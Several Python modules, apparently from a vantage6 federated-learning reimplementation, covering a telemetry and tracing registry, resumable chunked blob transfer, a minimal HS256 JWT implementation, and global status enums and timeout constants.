"""Zero-dependency telemetry: metrics registry + Dapper-style tracing.

Two small, thread-safe primitives shared by every layer of the stack
(server, node daemon, node proxy, clients) — no third-party metrics or
tracing library exists in this image, so both are self-contained here:

* :class:`MetricsRegistry` — counters, gauges and histograms with fixed
  buckets, rendered in the Prometheus text exposition format
  (``GET /metrics`` on the server and the node proxy). Durations are
  always measured on the **monotonic** clock (trnlint V6L010 enforces
  this repo-wide); wall-clock time appears only in span *timestamps*,
  which must be comparable across hosts.
* :class:`TraceContext` + :func:`span` — a ``trace_id``/``span_id``/
  ``parent_id`` triple propagated through every hop via the
  ``X-V6-Trace`` HTTP header (headers ride outside the body, so the
  trace survives both the JSON and V6BN codecs unchanged). Finished
  spans are buffered in a :class:`SpanBuffer` and piggybacked to the
  server on heartbeats and result PATCHes, where ``GET
  /task/<id>/timeline`` reconstructs the per-run span tree
  (docs/OBSERVABILITY.md).

Retries reuse the *same* ``trace_id`` with a fresh ``span_id`` per
attempt (:func:`child_span`), so a retried request shows up as sibling
spans of one trace rather than as unrelated traces; idempotent replays
deduplicate server-side on the (globally unique) ``span_id``.

This module imports nothing from the rest of the package so that
``resilience``, ``faults``, ``serialization`` et al. can instrument
themselves freely without import cycles.
"""

from __future__ import annotations

import contextvars
import re
import threading
import time
import uuid
from contextlib import contextmanager
from typing import Iterator, NamedTuple

__all__ = [
    "TRACE_HEADER",
    "TraceContext",
    "new_trace",
    "child_span",
    "format_trace",
    "parse_trace",
    "current_trace",
    "use_trace",
    "span",
    "SpanBuffer",
    "MetricsRegistry",
    "render_prometheus",
    "REGISTRY",
]

#: Wire header carrying ``<trace_id>-<span_id>`` (32 + 16 hex chars).
TRACE_HEADER = "X-V6-Trace"

_METRIC_NAME_RE = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*$")
_LABEL_NAME_RE = re.compile(r"^[a-zA-Z_][a-zA-Z0-9_]*$")
_TRACE_RE = re.compile(r"^([0-9a-f]{32})-([0-9a-f]{16})$")

#: Default latency buckets (seconds). Fixed at family creation so every
#: scrape sees the same ``le`` set — Prometheus requires that.
DEFAULT_BUCKETS = (
    0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5,
    1.0, 2.5, 5.0, 10.0, 30.0, 60.0,
)

#: Buckets for the streamed-aggregation phase histograms
#: (``v6_agg_phase_seconds{phase=decrypt|widen|device_add|renorm|drain}``,
#: see docs/PERFORMANCE.md). Per-chunk host work is tens of microseconds
#: on a healthy runtime, so these start well below DEFAULT_BUCKETS —
#: with the default edges every phase sample would land in the first
#: bucket and the decomposition would be unreadable.
AGG_PHASE_BUCKETS = (
    0.00005, 0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005,
    0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5,
)

#: Buckets for ``v6_round_overlap_seconds{mode}`` — wall-clock a
#: committed speculative dispatch overlapped the round tail (see
#: docs/PERFORMANCE.md "Pipelined rounds"). Round tails run tens of
#: milliseconds to a few seconds; a long-deadline quorum round can
#: overlap tens of seconds, so the edges extend past AGG_PHASE_BUCKETS.
ROUND_OVERLAP_BUCKETS = (
    0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5,
    1.0, 2.5, 5.0, 10.0, 30.0,
)

#: Buckets for ``v6_agg_update_norm`` — L2 norms of *accepted* worker
#: updates (admission control, docs/RESILIENCE.md "Robust
#: aggregation"). Norms are magnitudes, not latencies: log-spaced from
#: sub-unit LoRA-adapter deltas up past any sane dense-model update, so
#: a norm-scale attack that slipped the gate is visible as a top-bucket
#: outlier.
UPDATE_NORM_BUCKETS = (
    0.01, 0.1, 0.5, 1.0, 2.5, 5.0, 10.0, 25.0, 50.0, 100.0,
    1000.0, 10000.0, 1e6, 1e9,
)

#: Buckets for ``v6_seal_decrypt_seconds{mode=serial|parallel}`` — the
#: hybrid-envelope AES-CTR payload decrypt (common/encryption.py). The
#: serial baseline is ~10 ms per multi-MB combine payload and the
#: thread-pool split targets low single-digit ms, so the edges sit
#: between the phase and default buckets; the top edges catch a
#: degraded host where decrypt is suddenly the round bottleneck.
SEAL_DECRYPT_BUCKETS = (
    0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1,
    0.25, 0.5, 1.0, 2.5,
)

#: Cardinality guard: distinct label sets per family. Beyond this the
#: observation is dropped (and counted) instead of growing unbounded —
#: a mis-labelled metric must not OOM a node.
MAX_SERIES_PER_FAMILY = 64


# ====================== trace context ======================
class TraceContext(NamedTuple):
    trace_id: str            # 32 hex chars, stable for the whole request tree
    span_id: str             # 16 hex chars, unique per span
    parent_id: str | None = None


def _gen_trace_id() -> str:
    return uuid.uuid4().hex


def _gen_span_id() -> str:
    return uuid.uuid4().hex[:16]


def new_trace() -> TraceContext:
    """A fresh root context (no parent)."""
    return TraceContext(_gen_trace_id(), _gen_span_id(), None)


def child_span(ctx: TraceContext) -> TraceContext:
    """Same trace, fresh span, parented under ``ctx``'s span. Used both
    for nested spans and for per-attempt retry headers (siblings share
    the parent — a retry never forks a new trace)."""
    return TraceContext(ctx.trace_id, _gen_span_id(), ctx.span_id)


def format_trace(ctx: TraceContext) -> str:
    """Header value: ``<trace_id>-<span_id>`` (parent stays local — the
    receiver's parent IS the sender's span)."""
    return f"{ctx.trace_id}-{ctx.span_id}"


def parse_trace(value: str | None) -> TraceContext | None:
    """Parse an ``X-V6-Trace`` header; malformed values are treated as
    absent (never trust peer input into unbounded cardinality)."""
    if not value:
        return None
    m = _TRACE_RE.match(value.strip())
    if not m:
        return None
    return TraceContext(m.group(1), m.group(2), None)


_current: contextvars.ContextVar[TraceContext | None] = \
    contextvars.ContextVar("v6_trace", default=None)


def current_trace() -> TraceContext | None:
    return _current.get()


@contextmanager
def use_trace(ctx: TraceContext | None) -> Iterator[TraceContext | None]:
    """Activate ``ctx`` as the current trace for the duration. NOTE:
    contextvars do not cross thread-pool submission — capture the
    context before submitting and re-activate inside the job."""
    token = _current.set(ctx)
    try:
        yield ctx
    finally:
        _current.reset(token)


class SpanBuffer:
    """Bounded drop-oldest buffer of finished span records, drained into
    heartbeat / result-PATCH bodies. Telemetry is best-effort: a lost
    delivery loses its spans rather than blocking the data path."""

    def __init__(self, maxlen: int = 1000):
        self.maxlen = maxlen
        self._lock = threading.Lock()
        self._spans: list[dict] = []
        self.dropped = 0

    def record(self, rec: dict) -> None:
        with self._lock:
            self._spans.append(rec)
            if len(self._spans) > self.maxlen:
                del self._spans[0]
                self.dropped += 1
                overflowed = True
            else:
                overflowed = False
        if overflowed:
            # outside the lock: the registry takes its own lock and the
            # capped buffer must never deadlock the data path it guards
            REGISTRY.counter(
                "v6_buffer_dropped_total",
                "drop-oldest evictions from bounded buffers",
            ).inc(buffer="spans")

    def drain(self) -> list[dict]:
        with self._lock:
            out, self._spans = self._spans, []
            return out

    def __len__(self) -> int:
        with self._lock:
            return len(self._spans)


@contextmanager
def span(name: str, buffer: SpanBuffer | None = None,
         component: str | None = None,
         trace: TraceContext | None = None, **attrs) -> Iterator[dict]:
    """Record one span around a block. The new span is a child of
    ``trace`` (or of the current context; a root when neither exists)
    and becomes the current context inside the block, so nested spans
    and outbound headers chain automatically.

    Yields the mutable record dict — callers attach attribution
    (``rec["run_id"] = ...``) as it becomes known. Start time is wall
    clock (timelines compare across hosts); duration is monotonic."""
    parent = trace if trace is not None else current_trace()
    ctx = child_span(parent) if parent is not None else new_trace()
    rec: dict = {
        "trace_id": ctx.trace_id,
        "span_id": ctx.span_id,
        "parent_id": ctx.parent_id,
        "name": name,
        "component": component,
        "start": time.time(),
        **attrs,
    }
    t0 = time.monotonic()
    token = _current.set(ctx)
    try:
        yield rec
        rec.setdefault("status", "ok")
    except BaseException:
        rec["status"] = "error"
        raise
    finally:
        rec["duration_ms"] = round((time.monotonic() - t0) * 1e3, 3)
        _current.reset(token)
        if buffer is not None:
            buffer.record(rec)


# ====================== metrics registry ======================
def _label_key(labels: dict) -> tuple:
    return tuple(sorted(labels.items()))


def _render_labels(key: tuple, extra: str = "") -> str:
    parts = [
        '%s="%s"' % (k, str(v).replace("\\", r"\\").replace('"', r"\"")
                     .replace("\n", r"\n"))
        for k, v in key
    ]
    if extra:
        parts.append(extra)
    return "{" + ",".join(parts) + "}" if parts else ""


class _Family:
    """One metric family (name + kind + fixed label names)."""

    def __init__(self, registry: "MetricsRegistry", name: str, help_: str,
                 kind: str, buckets: tuple[float, ...] | None = None):
        self.registry = registry
        self.name = name
        self.help = help_
        self.kind = kind
        self.buckets = tuple(sorted(buckets)) if buckets else None
        # label-key tuple → float (counter/gauge) or
        # [per-bucket counts..., sum, count] (histogram)
        self._samples: dict[tuple, object] = {}

    def _slot(self, labels: dict):
        key = _label_key(labels)
        slot = self._samples.get(key)
        if slot is None:
            if len(self._samples) >= MAX_SERIES_PER_FAMILY:
                self.registry._dropped += 1
                return None
            for k in labels:
                if not _LABEL_NAME_RE.match(k):
                    raise ValueError(f"bad label name: {k!r}")
            if self.kind == "histogram":
                slot = [0] * (len(self.buckets) + 1) + [0.0, 0]
            else:
                slot = 0.0
            self._samples[key] = slot
        return key


class Counter(_Family):
    def inc(self, amount: float = 1.0, **labels) -> None:
        with self.registry._lock:
            key = self._slot(labels)
            if key is not None:
                self._samples[key] += amount


class Gauge(_Family):
    def set(self, value: float, **labels) -> None:
        with self.registry._lock:
            key = self._slot(labels)
            if key is not None:
                self._samples[key] = float(value)

    def inc(self, amount: float = 1.0, **labels) -> None:
        with self.registry._lock:
            key = self._slot(labels)
            if key is not None:
                self._samples[key] += amount

    def dec(self, amount: float = 1.0, **labels) -> None:
        self.inc(-amount, **labels)


class Histogram(_Family):
    def observe(self, value: float, **labels) -> None:
        with self.registry._lock:
            key = self._slot(labels)
            if key is None:
                return
            slot = self._samples[key]
            for i, edge in enumerate(self.buckets):
                if value <= edge:
                    slot[i] += 1
                    break
            else:
                slot[len(self.buckets)] += 1  # +Inf
            slot[-2] += value
            slot[-1] += 1

    @contextmanager
    def time(self, **labels) -> Iterator[None]:
        """Observe the (monotonic) duration of a block, in seconds."""
        t0 = time.monotonic()
        try:
            yield
        finally:
            self.observe(time.monotonic() - t0, **labels)


class MetricsRegistry:
    """Thread-safe family registry. Each component that serves its own
    ``/metrics`` owns an instance (server, node); shared library code
    (circuit breakers, fault injection, retries) instruments the
    process-global :data:`REGISTRY`, which both endpoints append."""

    def __init__(self):
        self._lock = threading.RLock()
        self._families: dict[str, _Family] = {}
        self._dropped = 0

    def _get(self, cls, name: str, help_: str, kind: str, **kw) -> _Family:
        if not _METRIC_NAME_RE.match(name):
            raise ValueError(f"bad metric name: {name!r}")
        with self._lock:
            fam = self._families.get(name)
            if fam is None:
                fam = self._families[name] = cls(self, name, help_, kind, **kw)
            elif fam.kind != kind:
                raise ValueError(
                    f"metric {name!r} already registered as {fam.kind}"
                )
            return fam

    def counter(self, name: str, help_: str = "") -> Counter:
        return self._get(Counter, name, help_, "counter")

    def gauge(self, name: str, help_: str = "") -> Gauge:
        return self._get(Gauge, name, help_, "gauge")

    def histogram(self, name: str, help_: str = "",
                  buckets: tuple[float, ...] = DEFAULT_BUCKETS) -> Histogram:
        return self._get(Histogram, name, help_, "histogram",
                         buckets=buckets)

    def value(self, name: str, suffix: str = "", **labels) -> float:
        """One sample's current value (0.0 when never observed).
        Histograms: pass ``suffix='sum'`` or ``'count'``."""
        with self._lock:
            fam = self._families.get(name)
            if fam is None:
                return 0.0
            slot = fam._samples.get(_label_key(labels))
            if slot is None:
                return 0.0
            if fam.kind == "histogram":
                return float(slot[-1] if suffix == "count" else slot[-2])
            return float(slot)

    def snapshot(self) -> dict[str, float]:
        """Flat ``name{labels}`` → value mapping (histograms expand to
        ``_sum``/``_count``). Cumulative — callers diff snapshots
        (bench.py decomposes scenario phases this way)."""
        out: dict[str, float] = {}
        with self._lock:
            for fam in self._families.values():
                for key, slot in fam._samples.items():
                    lbl = _render_labels(key)
                    if fam.kind == "histogram":
                        out[f"{fam.name}_sum{lbl}"] = float(slot[-2])
                        out[f"{fam.name}_count{lbl}"] = float(slot[-1])
                    else:
                        out[f"{fam.name}{lbl}"] = float(slot)
        return out

    def render(self) -> str:
        return render_prometheus(self)


def render_prometheus(*registries: MetricsRegistry) -> str:
    """Prometheus text exposition (``text/plain; version=0.0.4``) for
    one or more registries — a component endpoint appends the shared
    :data:`REGISTRY` after its own. Duplicate family names across
    registries keep the first HELP/TYPE block (samples still merge)."""
    lines: list[str] = []
    seen: set[str] = set()
    for registry in registries:
        with registry._lock:
            for fam in registry._families.values():
                if fam.name in seen:
                    continue
                seen.add(fam.name)
                if fam.help:
                    lines.append(f"# HELP {fam.name} {fam.help}")
                lines.append(f"# TYPE {fam.name} {fam.kind}")
                for key, slot in sorted(fam._samples.items()):
                    if fam.kind == "histogram":
                        acc = 0
                        for i, edge in enumerate(fam.buckets):
                            acc += slot[i]
                            le = 'le="%r"' % edge
                            lines.append(
                                f"{fam.name}_bucket"
                                f"{_render_labels(key, le)} {acc}"
                            )
                        acc += slot[len(fam.buckets)]
                        inf = 'le="+Inf"'
                        lines.append(
                            f"{fam.name}_bucket"
                            f"{_render_labels(key, inf)} {acc}"
                        )
                        lines.append(
                            f"{fam.name}_sum{_render_labels(key)}"
                            f" {slot[-2]!r}"
                        )
                        lines.append(
                            f"{fam.name}_count{_render_labels(key)}"
                            f" {slot[-1]}"
                        )
                    else:
                        val = slot
                        out = repr(float(val)) if isinstance(val, float) \
                            else str(val)
                        lines.append(
                            f"{fam.name}{_render_labels(key)} {out}"
                        )
    return "\n".join(lines) + "\n"


#: Process-global registry for shared library code (resilience breakers,
#: retry sleeps, fault injections). Appended by every ``/metrics``
#: endpoint in the process — see docs/OBSERVABILITY.md.
REGISTRY = MetricsRegistry()
