"""Chunked, resumable transfer of large run-payload blobs.

Server counterparts (``server/resources.py``):

* ``GET /run/<id>/result`` — raw canonical result blob, honoring
  ``Range: bytes=a-b`` (206 + ``Content-Range``) with ``X-V6-Blob-Len``
  and ``X-V6-Blob-Enc`` metadata, read incrementally from SQLite via
  ``db.blob_range`` (the server never materializes more than one chunk).
* ``POST /run/<id>/result/chunk`` — append one chunk to an upload
  session keyed by ``Idempotency-Key``; the server acks its cumulative
  ``received`` count, dedupes replayed offsets and 409s gaps.
* ``PATCH /run/<id>`` with ``result_chunks=<key>`` — promote the
  assembled session blob to the run result (the caller does this).

The engines here are transport-agnostic: the caller supplies a ``send``
callable performing ONE raw HTTP attempt (auth, connection pooling and
chaos hooks live with the caller); this module owns chunk bookkeeping,
resume-from-last-acked-byte across connection drops under the caller's
:class:`~vantage6_trn.common.resilience.RetryPolicy`, per-chunk transfer
spans, and the ``v6_wire_bytes_total{codec,direction}`` accounting that
bench.py turns into ``bytes_per_round``.

Resume invariants (chaos-asserted in tests/test_chaos.py):

* download — progress is byte-granular; a drop mid-chunk re-requests
  from the last byte actually buffered, so re-downloaded bytes are
  bounded by one chunk;
* upload — a drop after the server appended but before the ack arrived
  is healed by replaying the same offset: the server answers with its
  cumulative ``received`` (dedup, no double append) and the client
  jumps forward, so re-sent bytes are bounded by one chunk.
"""

from __future__ import annotations

import json
import os
from typing import Any, Callable

from vantage6_trn.common import telemetry
from vantage6_trn.common.resilience import RetryPolicy

#: chunk size for both legs — large enough to amortize per-request
#: overhead, small enough that a resume re-sends at most ~1 MiB
DEFAULT_CHUNK_BYTES = 1 << 20

#: results below this go inline in the PATCH body (one round trip);
#: above it the node switches to the resumable chunk session
UPLOAD_THRESHOLD = 1 << 20


def stream_threshold() -> int:
    """Effective inline-vs-stream cutover in bytes.

    ``V6_STREAM_THRESHOLD_BYTES`` overrides :data:`UPLOAD_THRESHOLD`
    per-process — benches and tests set it to ``0`` to force every
    result through the layer-streaming path regardless of size (the
    default cutover silently refused ALL streams for models under
    1 MiB, which made the streamed path look dead in small benches)."""
    raw = os.environ.get("V6_STREAM_THRESHOLD_BYTES")
    if raw is None or raw == "":
        return UPLOAD_THRESHOLD
    try:
        return max(0, int(raw))
    except ValueError:
        return UPLOAD_THRESHOLD

#: transport-level exceptions any raw ``send`` may surface; requests'
#: ConnectionError subclasses OSError, so this catches both stacks
#: without importing requests here
TRANSPORT_ERRORS = (ConnectionError, OSError, TimeoutError)

# One raw HTTP attempt: (method, path, headers, body) → (status,
# response-headers dict with lower-or-exact-case get(), content bytes).
# Must raise a TRANSPORT_ERRORS member on connection failure.
SendFn = Callable[..., "tuple[int, Any, bytes]"]


def count_wire(n: int, codec: str, direction: str) -> None:
    """Account ``n`` payload bytes moved on the wire.

    ``codec`` ∈ {bin, json, raw} (raw = chunked blob legs), ``direction``
    ∈ {up, down}. Process-global so bench.py's metrics snapshot picks it
    up from every in-process component at once."""
    if n:
        telemetry.REGISTRY.counter(
            "v6_wire_bytes_total",
            "payload bytes moved on the wire, by codec and direction",
        ).inc(n, codec=codec, direction=direction)


class TransferError(RuntimeError):
    """Chunk protocol failure; carries the HTTP status (0 = protocol)."""

    def __init__(self, msg: str, status: int = 0):
        super().__init__(msg)
        self.status = status


def _header(headers: Any, name: str) -> str | None:
    """Tolerant header read: requests' CaseInsensitiveDict and the
    server's plain dicts (lower-cased keys) both answer here."""
    if headers is None:
        return None
    return headers.get(name) or headers.get(name.lower())


def download_blob(
    send: SendFn,
    path: str,
    *,
    chunk_bytes: int = DEFAULT_CHUNK_BYTES,
    policy: RetryPolicy | None = None,
    spans: "telemetry.SpanBuffer | None" = None,
    trace: "telemetry.TraceContext | None" = None,
) -> tuple[bytes, bool]:
    """Ranged, resumable download of a raw blob from ``path``.

    Returns ``(blob, encrypted)`` where ``encrypted`` echoes the
    server's ``X-V6-Blob-Enc`` marker (the blob is a sealed envelope
    rather than plaintext payload bytes). A connection drop resumes at
    the last buffered byte — the ``Range`` start advances with the
    buffer, so each retry re-downloads at most the interrupted chunk.
    """
    policy = policy or RetryPolicy()
    buf = bytearray()
    total: int | None = None
    encrypted = False
    for attempt in policy.attempts():
        try:
            while total is None or len(buf) < total:
                start = len(buf)
                with telemetry.span(
                    "transfer.chunk", spans, component="transfer",
                    trace=trace, direction="down", offset=start,
                ):
                    status, headers, content = send(
                        "GET", path,
                        {"Range": f"bytes={start}-"
                                  f"{start + chunk_bytes - 1}"},
                        None,
                    )
                if status in (200, 206):
                    encrypted = _header(headers, "X-V6-Blob-Enc") == "1"
                    blob_len = _header(headers, "X-V6-Blob-Len")
                    if status == 200:
                        # peer ignored Range and sent the whole blob
                        buf = bytearray(content)
                        total = len(buf)
                    else:
                        buf += content
                        total = int(blob_len) if blob_len else total
                        if total is None:
                            raise TransferError(
                                "206 without X-V6-Blob-Len", status)
                    count_wire(len(content), "raw", "down")
                    if not content and len(buf) < (total or 0):
                        raise TransferError(
                            f"empty 206 chunk at offset {start}", status)
                else:
                    raise TransferError(
                        f"blob download {path} failed [{status}]: "
                        f"{content[:200]!r}", status)
            return bytes(buf), encrypted
        except TRANSPORT_ERRORS as e:
            attempt.retry(exc=e)


def upload_blob(
    send: SendFn,
    path: str,
    blob: bytes,
    *,
    key: str,
    chunk_bytes: int = DEFAULT_CHUNK_BYTES,
    policy: RetryPolicy | None = None,
    spans: "telemetry.SpanBuffer | None" = None,
    trace: "telemetry.TraceContext | None" = None,
) -> str:
    """Resumable chunked upload of ``blob`` to the chunk endpoint at
    ``path``, as session ``key`` (an Idempotency-Key the caller then
    passes to the finalize PATCH as ``result_chunks``). Returns ``key``.

    The offset always tracks the server's acked ``received`` counter:
    a replay of a chunk whose ack was lost is deduped server-side and
    answered with the cumulative count, so the client never re-sends
    more than one chunk after a drop.
    """
    policy = policy or RetryPolicy()
    total = len(blob)
    offset = 0
    for attempt in policy.attempts():
        try:
            while offset < total or total == 0:
                chunk = blob[offset:offset + chunk_bytes]
                with telemetry.span(
                    "transfer.chunk", spans, component="transfer",
                    trace=trace, direction="up", offset=offset,
                ):
                    status, _headers, content = send(
                        "POST", path,
                        {
                            "Idempotency-Key": key,
                            "X-V6-Chunk-Offset": str(offset),
                            "X-V6-Blob-Total": str(total),
                            "Content-Type": "application/octet-stream",
                        },
                        bytes(chunk),
                    )
                # the chunk body went on the wire whatever the verdict —
                # chaos tests assert THIS counter stays within one chunk
                # of the blob size after an injected mid-transfer reset
                count_wire(len(chunk), "raw", "up")
                if status == 409 and offset != 0:
                    # session vanished (server pruned it, or a restart):
                    # the protocol restarts cleanly from offset 0
                    offset = 0
                    continue
                if status >= 400:
                    raise TransferError(
                        f"chunk upload {path} failed [{status}]: "
                        f"{content[:200]!r}", status)
                out = json.loads(content.decode("utf-8"))
                offset = int(out["received"])
                if out.get("complete"):
                    return key
            return key
        except TRANSPORT_ERRORS as e:
            attempt.retry(exc=e)


class StreamingUpload:
    """Incremental counterpart of :func:`upload_blob` for producers
    that generate the blob *while* uploading it (layer-streamed result
    frames, ``node.daemon._ResultLayerSink``): ``feed()`` buffers bytes
    and POSTs a chunk whenever one fills; ``finish()`` flushes the tail
    and returns the session key for the finalize PATCH.

    The blob length must be known up front — V6BN's header-first
    framing makes it exact before any frame bytes exist — and rides
    every chunk as ``X-V6-Blob-Total`` like :func:`upload_blob`. Acked
    bytes are released immediately, so the full blob never exists in
    worker memory; the price is that a 409 session restart (server
    pruned the session mid-stream) is unrecoverable here — it raises
    :class:`TransferError` and the caller falls back to the batch
    upload path, which still holds the whole result. A lost *ack*
    heals exactly as in ``upload_blob``: the replay of the unacked
    window is deduped server-side against the cumulative ``received``.
    """

    def __init__(
        self,
        send: SendFn,
        path: str,
        total: int,
        *,
        key: str,
        chunk_bytes: int = DEFAULT_CHUNK_BYTES,
        policy: RetryPolicy | None = None,
        spans: "telemetry.SpanBuffer | None" = None,
        trace: "telemetry.TraceContext | None" = None,
    ):
        if total < 0:
            raise ValueError("total must be >= 0")
        self._send = send
        self._path = path
        self.total = int(total)
        self.key = key
        self._cb = int(chunk_bytes)
        self._policy = policy or RetryPolicy()
        self._spans = spans
        self._trace = trace
        self._buf = bytearray()
        self._acked = 0   # server's cumulative received counter
        self._fed = 0
        self._done = False

    def _post(self, n: int) -> None:
        chunk = bytes(self._buf[:n])
        offset = self._acked
        for attempt in self._policy.attempts():
            try:
                with telemetry.span(
                    "transfer.chunk", self._spans, component="transfer",
                    trace=self._trace, direction="up", offset=offset,
                ):
                    status, _headers, content = self._send(
                        "POST", self._path,
                        {
                            "Idempotency-Key": self.key,
                            "X-V6-Chunk-Offset": str(offset),
                            "X-V6-Blob-Total": str(self.total),
                            "Content-Type": "application/octet-stream",
                        },
                        chunk,
                    )
                count_wire(len(chunk), "raw", "up")
                if status == 409:
                    # upload_blob restarts from 0 here; this session's
                    # earlier bytes are already released, so the lost
                    # session is unrecoverable — caller falls back
                    raise TransferError(
                        f"streamed upload session lost at offset "
                        f"{offset}", status)
                if status >= 400:
                    raise TransferError(
                        f"chunk upload {self._path} failed [{status}]: "
                        f"{content[:200]!r}", status)
                out = json.loads(content.decode("utf-8"))
                received = int(out["received"])
                advance = received - self._acked
                if chunk and advance <= 0:
                    raise TransferError(
                        f"server acked {received} at offset {offset}: "
                        "no progress", status)
                del self._buf[:advance]
                self._acked = received
                return
            except TRANSPORT_ERRORS as e:
                attempt.retry(exc=e)

    def feed(self, data) -> None:
        if self._done:
            raise TransferError("streamed upload already finished")
        if not isinstance(data, (bytes, bytearray)):
            data = bytes(data)
        self._buf += data
        self._fed += len(data)
        if self._fed > self.total:
            raise TransferError(
                f"streamed upload overflowed its declared total "
                f"({self._fed} > {self.total})")
        while len(self._buf) >= self._cb:
            self._post(self._cb)

    def finish(self) -> str:
        if self._done:
            return self.key
        if self._fed != self.total:
            raise TransferError(
                f"streamed upload fed {self._fed} of {self.total} "
                "declared bytes")
        while self._buf:
            self._post(min(self._cb, len(self._buf)))
        if self.total == 0:
            self._post(0)  # create-and-complete an empty session
        self._done = True
        return self.key
