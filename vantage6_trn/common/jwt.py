"""Minimal JWT (HS256 compact JWS) — stdlib only.

The reference delegates to flask-jwt-extended (SURVEY.md §2.1 server
resources, ``token.py``). This module reimplements the subset we need:
HS256 sign/verify, ``exp``/``iat`` handling, and vantage6-style identity
claims (``sub`` + ``client_type`` of user/node/container).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from typing import Any

_HEADER = {"alg": "HS256", "typ": "JWT"}


class JWTError(Exception):
    pass


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _unb64url(data: str) -> bytes:
    pad = "=" * (-len(data) % 4)
    return base64.urlsafe_b64decode(data + pad)


def encode(claims: dict[str, Any], secret: str | bytes,
           expires_in: float | None = 6 * 3600) -> str:
    if isinstance(secret, str):
        secret = secret.encode()
    now = int(time.time())
    payload = dict(claims)
    payload.setdefault("iat", now)
    if expires_in is not None:
        payload.setdefault("exp", now + int(expires_in))
    head = _b64url(json.dumps(_HEADER, separators=(",", ":")).encode())
    body = _b64url(json.dumps(payload, separators=(",", ":")).encode())
    signing_input = f"{head}.{body}".encode("ascii")
    sig = hmac.new(secret, signing_input, hashlib.sha256).digest()
    return f"{head}.{body}.{_b64url(sig)}"


def decode(token: str, secret: str | bytes, verify_exp: bool = True) -> dict:
    if isinstance(secret, str):
        secret = secret.encode()
    try:
        head, body, sig = token.split(".")
    except ValueError as e:
        raise JWTError("malformed token") from e
    signing_input = f"{head}.{body}".encode("ascii")
    expected = hmac.new(secret, signing_input, hashlib.sha256).digest()
    if not hmac.compare_digest(expected, _unb64url(sig)):
        raise JWTError("bad signature")
    header = json.loads(_unb64url(head))
    if header.get("alg") != "HS256":
        raise JWTError("unsupported alg")
    claims = json.loads(_unb64url(body))
    if verify_exp and "exp" in claims and claims["exp"] < time.time():
        raise JWTError("token expired")
    return claims
