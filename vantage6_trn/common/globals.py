"""Global constants and lifecycle enums.

Reference counterpart: ``vantage6-common/vantage6/common/globals.py`` and
``task_status.py`` (SURVEY.md §2.1, citation UNVERIFIED — reference mount
was empty; names reconstructed from the survey).
"""

from __future__ import annotations

import enum
import logging
import os


class TaskStatus(str, enum.Enum):
    """Lifecycle of a single Run (one org's execution of a Task)."""

    PENDING = "pending"            # created, not yet picked up by the node
    INITIALIZING = "initializing"  # node accepted; runtime is preparing
    ACTIVE = "active"              # algorithm executing
    COMPLETED = "completed"        # finished OK, result stored
    FAILED = "failed"              # algorithm raised / returned error
    CRASHED = "crashed"            # runtime/process died
    KILLED = "killed"              # killed on user request
    NO_RUNTIME = "no runtime"      # node has no runtime for the image
    NOT_ALLOWED = "not allowed"    # node policy rejected the image
    UNKNOWN = "unknown"

    @classmethod
    def has_finished(cls, status: "TaskStatus | str") -> bool:
        return cls(status) in (
            cls.COMPLETED, cls.FAILED, cls.CRASHED, cls.KILLED,
            cls.NO_RUNTIME, cls.NOT_ALLOWED,
        )

    @classmethod
    def has_failed(cls, status: "TaskStatus | str") -> bool:
        return cls(status) in (
            cls.FAILED, cls.CRASHED, cls.KILLED, cls.NO_RUNTIME,
            cls.NOT_ALLOWED,
        )


class RunStatus(str, enum.Enum):
    """Node liveness as tracked by the server's event channel."""

    ONLINE = "online"
    OFFLINE = "offline"


class Scope(str, enum.Enum):
    """Permission scope of a rule (narrow → broad)."""

    OWN = "own"
    ORGANIZATION = "organization"
    COLLABORATION = "collaboration"
    GLOBAL = "global"


class Operation(str, enum.Enum):
    VIEW = "view"
    CREATE = "create"
    EDIT = "edit"
    DELETE = "delete"
    SEND = "send"      # e.g. kill signals
    RECEIVE = "receive"


# --- network defaults -----------------------------------------------------
DEFAULT_SERVER_PORT = 5000
DEFAULT_PROXY_PORT = 7600
DEFAULT_API_PATH = "/api"


def _pos_float_from_env(var: str, default: float) -> float:
    """Positive-float env override (read once at import). Garbage
    values fall back to the default rather than crash every entry
    point."""
    raw = os.environ.get(var)
    if raw is None:
        return default
    try:
        value = float(raw)
        if value <= 0:
            raise ValueError("must be > 0")
        return value
    except ValueError as e:
        logging.getLogger(__name__).warning(
            "ignoring invalid %s=%r (%s); using %s", var, raw, e, default,
        )
        return default


def _http_timeout_from_env(default: float = 60.0) -> float:
    """``V6_HTTP_TIMEOUT`` override for ``DEFAULT_HTTP_TIMEOUT``."""
    return _pos_float_from_env("V6_HTTP_TIMEOUT", default)


#: Fallback timeout (seconds) for every outbound HTTP call that has no
#: more specific deadline of its own. Enforced by lint rule V6L001:
#: a requests/urlopen call with no ``timeout=`` can hang its thread
#: forever on a half-open connection. Override with ``V6_HTTP_TIMEOUT``.
DEFAULT_HTTP_TIMEOUT: float = _http_timeout_from_env()

#: Sentinel returned by conditional (``If-None-Match``) transport calls
#: when the server answered 304 Not Modified: the caller's cached view
#: is still current. Identity-compared, never equality-compared.
NOT_MODIFIED = object()

# --- fault-tolerant task lifecycle (docs/RESILIENCE.md) -------------------
#: Server-side: how long a claimed (INITIALIZING/ACTIVE) run stays
#: owned by its node without a heartbeat renewal before the lease
#: sweeper requeues it. Override with ``V6_LEASE_TTL``.
DEFAULT_LEASE_TTL: float = _pos_float_from_env("V6_LEASE_TTL", 60.0)

#: Node-side: heartbeat interval (``PATCH /node/<id>/heartbeat``,
#: piggybacking in-flight run ids). Keep well under the lease TTL.
#: Override with ``V6_HEARTBEAT_S``.
DEFAULT_HEARTBEAT_S: float = _pos_float_from_env("V6_HEARTBEAT_S", 10.0)

#: Server-side: how many times an expired-lease run is requeued before
#: it is FAILED with a "node lost" log. Override with
#: ``V6_MAX_RUN_RETRIES``.
DEFAULT_MAX_RUN_RETRIES: int = int(
    _pos_float_from_env("V6_MAX_RUN_RETRIES", 2.0)
)

# Identity types carried in JWT claims.
IDENTITY_USER = "user"
IDENTITY_NODE = "node"
